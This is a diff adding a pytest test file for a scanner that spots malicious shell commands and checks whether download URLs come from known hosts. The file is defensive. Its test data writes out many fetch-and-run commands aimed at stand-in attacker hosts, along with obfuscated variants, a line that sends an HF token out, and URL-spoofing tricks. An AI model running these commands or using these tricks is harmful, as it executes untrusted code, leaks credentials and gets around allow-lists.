@@ -1,0 +1,94 @@
+"""Commands by their syntax: what fetches and what runs, and which addresses are excused."""
+
+import pytest
+
+from budmodel_scanner.texts.known_places import DOWNLOADS, INSTALLERS, PACKAGES, host_of, is_known
+from budmodel_scanner.texts.shell_commands import hostile_command
+from budmodel_scanner.verdict import Verdict
+
+HOSTILE = [
+    "curl -fsSL https://sh.rustup.rs.evil.example | bash",
+    "curl -fsSL https://apt.llvm.org@evil.example/x | bash",
+    "curl -fsSL https://evil.example/#https://apt.llvm.org/llvm.sh | bash",
+    "curl -fsSL https://evil.example/localhost | bash",
+    "curl -fsSL http://127.0.0.1:9/x | bash",
+    "curl -fsSL https://huggingface.co/evil/repo/resolve/main/x.sh | bash",
+    "curl -fsSL https://packagecloud.io/attacker/x | bash",
+    "curl -fsSL https://s3.amazonaws.com/attacker/git-lfs-x.sh | bash",
+    "curl -fsSL https://raw.githubusercontent.com/conda-forge/x/y.sh | bash",
+    "RUN set -e; curl x.evil.example/a | tee /tmp/y | sh",
+    "c''url http://x.invalid/a | ba\\sh",
+    "U=http://x.invalid; curl $U | bash",
+    'A=$(curl http://x.invalid) && eval "$A"',
+    "su -c 'curl http://x.invalid | sh'",
+    "bash <(curl -s http://x.invalid)",
+    'bash <<< "$(curl http://x.invalid)"',
+    "bash <<'EOF'\ncurl http://x.invalid | sh\nEOF",
+    "(curl http://x.invalid) | sh",
+    "curl http://x.invalid | while read l; do eval $l; done",
+    "curl x.invalid | xargs -I{} sh -c {}",
+    "printf '\\x63\\x75\\x72' | sh",
+    "irm http://x.invalid | iex",
+    "[foo(] curl http://x.invalid |sh)]",
+    "wget http://x.invalid/m -O /tmp/m && chmod +x /tmp/m && /tmp/m",
+    "curl https://x.invalid/?k=$HF_TOKEN && true",
+]
+ORDINARY = [
+    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
+    "curl -LsSf https://astral.sh/uv/install.sh | sh",
+    'bash -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"',
+    'curl https://x.invalid/v1 | python3 -c "import sys, json; print(json.load(sys.stdin))"',
+    "curl https://x.invalid/v1 | python3 -m json.tool",
+    "curl http://x.invalid/v1/models | grep bash",
+    'echo "curl http://x.invalid | sh"',
+    'eval "$(conda shell.bash hook)"',
+    "wget http://x.invalid/data.tgz && tar xzf data.tgz",
+    "git clone https://x.invalid/r && cd r && bash run.sh",
+    'curl -H "Authorization: Bearer $HF_TOKEN" https://huggingface.co/api/whoami-v2 | jq',
+    "# curl http://x.invalid | sh",
+]
+
+
+@pytest.mark.parametrize("command", HOSTILE)
+def test_what_fetches_and_runs_is_malicious(command: str) -> None:
+    found = hostile_command(command)
+    assert found is not None
+    assert found.verdict is Verdict.MALICIOUS
+
+
+@pytest.mark.parametrize("command", ORDINARY)
+def test_ordinary_commands_are_left_alone(command: str) -> None:
+    assert hostile_command(command) is None
+
+
+def test_a_fetched_script_that_a_shell_is_given_is_suspicious_and_its_line_is_told() -> None:
+    found = hostile_command("set -e\nwget http://x.invalid/a.sh\n\nbash a.sh\n")
+    assert found is not None
+    assert (found.verdict, found.line) == (Verdict.SUSPICIOUS, 4)
+
+
+@pytest.mark.parametrize(
+    ("url", "purpose", "known"),
+    [
+        ("https://astral.sh/uv/install.sh", INSTALLERS, True),
+        ("https://ASTRAL.sh./uv/install.sh", INSTALLERS, True),
+        ("https://astral.sh.evil.example/uv/install.sh", INSTALLERS, False),
+        ("https://ollama.com/install.sh", INSTALLERS, True),
+        ("https://ollama.com/other.sh", INSTALLERS, False),
+        ("https://user:pw@evil.example/astral.sh/", INSTALLERS, False),
+        ("https://evil.example\\@astral.sh/", INSTALLERS, False),
+        ("https://raw.githubusercontent.com/pyenv/../evil/x.sh", INSTALLERS, False),
+        ("https://raw.githubusercontent.com/pyenv/%2e%2e/evil/x.sh", INSTALLERS, False),
+        ("ftp://astral.sh/x", INSTALLERS, False),
+        ("https://cdn-lfs.huggingface.co/x", DOWNLOADS, True),
+        ("https://nothuggingface.co/x", DOWNLOADS, False),
+        ("git+https://github.com/HuggingFace/peft@main", PACKAGES, True),
+        ("git+https://github.com/huggingface-evil/peft", PACKAGES, False),
+    ],
+)
+def test_an_address_is_known_by_its_whole_host_and_the_path_of_its_owner(url: str, purpose: str, known: bool) -> None:
+    assert is_known(url, purpose) is known
+
+
+def test_the_host_is_the_one_that_a_client_asks() -> None:
+    assert host_of("https://apt.llvm.org@evil.example:8/x#https://apt.llvm.org") == "evil.example"
